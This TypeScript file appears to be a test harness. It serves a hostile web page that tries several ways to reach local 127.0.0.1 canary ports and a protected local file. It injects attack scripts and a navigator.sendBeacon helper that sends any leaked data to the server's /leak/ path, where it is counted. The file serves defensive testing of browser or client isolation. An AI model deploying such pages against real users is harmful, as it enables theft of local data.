import { createServer, type IncomingMessage, type ServerResponse } from 'node:http';
import type { Target, Way } from './ways.ts';

/** A public server with a hostile page. */
export type AttackSite = {
  /** Pages to open: the one that tries most ways, and those that leave it. */
  readonly urls: readonly string[];
  /** What was read that should not have been, by way. */
  leaks(): readonly string[];
  /** How many requests came. */
  asked(): number;
  forget(): void;
  close(): Promise<void>;
};

type Served = {
  readonly status: number;
  readonly headers: Readonly<Record<string, string>>;
  readonly body: string;
};

const PAGE = { status: 200, headers: { 'Content-Type': 'text/html; charset=utf-8' } };

/**
 * Serves the attack at an address.
 *
 * @param portOf the canary of each way
 * @param file one of the machine that must not be read
 */
export async function startAttackSite(
  ways: readonly Way[],
  options: {
    readonly address: string;
    readonly port: number;
    readonly origin: string;
    readonly portOf: (way: Way) => number;
    readonly file: string;
  },
): Promise<AttackSite> {
  const { origin, file } = options;
  const served = new Map<string, Served>();
  const leaks: string[] = [];
  let asked = 0;
  const keep = (answer: Served): string => {
    const url = `/s/${served.size}`;
    served.set(url, answer);
    return `${origin}${url}`;
  };
  const targetOf = (way: Way): Target => {
    const port = options.portOf(way);
    const url = `http://127.0.0.1:${port}/${way.id}`;
    return {
      id: way.id,
      port,
      url,
      file,
      redirect: (status, to = url) => keep({ status, headers: { Location: to }, body: '' }),
      served: (type, body, headers = {}) =>
        keep({ status: 200, headers: { 'Content-Type': type, ...headers }, body }),
      leak: `((t) => navigator.sendBeacon("${origin}/leak/${way.id}", t))`,
    };
  };
  const own = ways.flatMap((way) => {
    const answer = way.document?.(targetOf(way));
    if (!answer) return [];
    const headers = {
      ...PAGE.headers,
      ...answer.headers,
      ...(answer.location && { Location: answer.location }),
    };
    return [
      keep({
        status: answer.status ?? 200,
        headers,
        body: `<!doctype html><title>${way.id}</title><p>${'A page. '.repeat(30)}</p>${answer.html ?? ''}`,
      }),
    ];
  });
  const all = keep({ ...PAGE, body: pageOf(ways, targetOf) });
  const server = createServer((request, response) => answer(request, response));
  const answer = (request: IncomingMessage, response: ServerResponse) => {
    const url = request.url ?? '/';
    asked += 1;
    if (url.startsWith('/leak/')) leaks.push(url.slice('/leak/'.length));
    request.resume();
    const { status, headers, body } = served.get(url) ?? { ...PAGE, body: 'x' };
    response.writeHead(status, { ...headers, 'Access-Control-Allow-Origin': '*' }).end(body);
  };
  await new Promise<void>((resolve) => server.listen(options.port, options.address, resolve));
  return {
    urls: [all, ...own],
    leaks: () => leaks,
    asked: () => asked,
    forget() {
      leaks.splice(0);
      asked = 0;
    },
    async close() {
      server.closeAllConnections();
      await new Promise((resolve) => server.close(resolve));
    },
  };
}

function pageOf(ways: readonly Way[], targetOf: (way: Way) => Target): string {
  const parts = ways.map((way) => {
    const code = way.script?.(targetOf(way));
    return (
      way.html?.(targetOf(way)) ??
      (code && `<script>{ try { ${code.replaceAll('</', '<\\/')} } catch {} }</script>`) ??
      ''
    );
  });
  return `<!doctype html><title>Attack</title><p>${'A page that reaches out. '.repeat(40)}</p>${parts.join('\n')}`;
}
